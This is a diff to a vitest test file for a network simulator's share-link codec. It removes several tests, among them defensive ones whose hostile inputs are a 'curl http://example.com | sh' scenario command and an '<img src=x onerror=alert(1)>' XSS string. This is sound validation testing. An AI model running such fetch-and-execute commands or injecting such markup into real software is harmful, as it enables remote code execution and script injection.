@@ -1,6 +1,6 @@
-// Shared links: what the codec and the worker accept (a round trip of every part), and what they
-// refuse, each with its own reason: damaged, too large, not ours, newer, or a network that fails
-// the same validation as a file. Hostile text stays text.
+// Shared links' text: what the codec gives back (a round trip of every part), and what it refuses,
+// each with its own reason: damaged, too large, not ours, newer. What the worker then checks (the
+// network's validation) is in worker/shareLink.test.ts.
 
 import { compressToEncodedURIComponent } from 'lz-string';
 import { describe, expect, test } from 'vitest';
@@ -8,7 +8,6 @@ import type { Topology } from '../../engine';
 import { simApi } from '../../worker/sim-api';
 import { decodeShare, encodeShare } from './codec';
 import { MAX_JSON_CHARS, MAX_LINK_CHARS, SHARE_PREFIX, type SharePayload } from './limits';
-import { lessonHash, readLink, shareHash } from './link';
 
 const topology = simApi.loadExample('two-subnets-router');
 const pdu = { source: 'h1', address: '10.0.2.10', device: 'h2', protocol: 'udp' as const, srcPort: 40000, dstPort: 5353, count: 2 };
@@ -22,28 +21,6 @@ describe('round trip', () => {
     expect(text.startsWith('v1.')).toBe(true);
     expect(text).toMatch(/^[A-Za-z0-9+\-$.]+$/);
     expect(decodeShare(text)).toEqual({ ok: true, payload });
-    expect(simApi.readShareLink(simApi.makeShareLink(payload))).toEqual({ ok: true, topology, walk: payload.walk, step: 7 });
-  });
-
-  test('a TCP packet comes back as one', () => {
-    const tcp = { ...payload, walk: { kind: 'pdu' as const, pdu: { ...pdu, protocol: 'tcp' as const, dstPort: 80 } } };
-    expect(simApi.readShareLink(simApi.makeShareLink(tcp))).toEqual({ ok: true, topology, walk: tcp.walk, step: 7 });
-  });
-
-  test('a network alone, and the topology’s scenario at its start', () => {
-    expect(simApi.readShareLink(encodeShare({ app: 'packetwalk', v: 1, topology }))).toEqual({ ok: true, topology });
-    const scenario = simApi.readShareLink(encodeShare({ app: 'packetwalk', v: 1, topology, walk: { kind: 'scenario' }, step: 0 }));
-    expect(scenario).toEqual({ ok: true, topology, walk: { kind: 'scenario' }, step: 0 });
-  });
-
-  test('the fragment keeps the text as it is (lz-string’s + is not a space)', () => {
-    const text = encodeShare(payload);
-    expect(readLink(shareHash(text))).toEqual({ kind: 'share', text });
-    expect(readLink(lessonHash('same-subnet', 5))).toEqual({ kind: 'lesson', id: 'same-subnet', step: 5 });
-    expect(readLink('#lesson=route-table')).toEqual({ kind: 'lesson', id: 'route-table', step: 0 });
-    expect(readLink('#lesson=route-table&step=-3')).toEqual({ kind: 'lesson', id: 'route-table', step: 0 });
-    expect(readLink('#section-2')).toEqual({ kind: 'none' });
-    expect(readLink('')).toEqual({ kind: 'none' });
   });
 });
 
@@ -95,30 +72,5 @@ describe('refused links', () => {
   ])('newer: %s', (_what, t) => {
     expect(decodeShare(t)).toMatchObject({ ok: false, error: 'newer' });
   });
-
-  test('a network that fails validation is refused with its problems, like a file', () => {
-    const bad = { ...topology, nodes: topology.nodes.map((n) => (n.name === 'h2' ? { ...n, name: 'h1' } : n)) };
-    const r = simApi.readShareLink(encodeShare({ ...payload, topology: bad }));
-    expect(r).toMatchObject({ ok: false, error: 'invalid' });
-    expect(!r.ok && r.problems?.map((p) => p.message).join('\n')).toMatch(/used twice/);
-  });
-
-  test('a scenario command packetwalk does not run is refused', () => {
-    const r = simApi.readShareLink(encodeShare({ ...payload, topology: { ...topology, scenario: [{ kind: 'run', on: 'h1', run: 'curl http://example.com | sh' }] } }));
-    expect(r).toMatchObject({ ok: false, error: 'invalid' });
-  });
 });
 
-describe('hostile text', () => {
-  const IMG = '<img src=x onerror=alert(1)>';
-
-  test('as the network’s name it is kept as text, character for character', () => {
-    const r = simApi.readShareLink(encodeShare({ ...payload, topology: { ...topology, name: IMG } }));
-    expect(r.ok && r.topology.name).toBe(IMG);
-  });
-
-  test('as a device name it is refused by validation', () => {
-    const r = simApi.readShareLink(encodeShare({ ...payload, topology: { ...topology, nodes: topology.nodes.map((n, i) => (i === 0 ? { ...n, name: IMG } : n)) } }));
-    expect(r).toMatchObject({ ok: false, error: 'invalid' });
-  });
-});
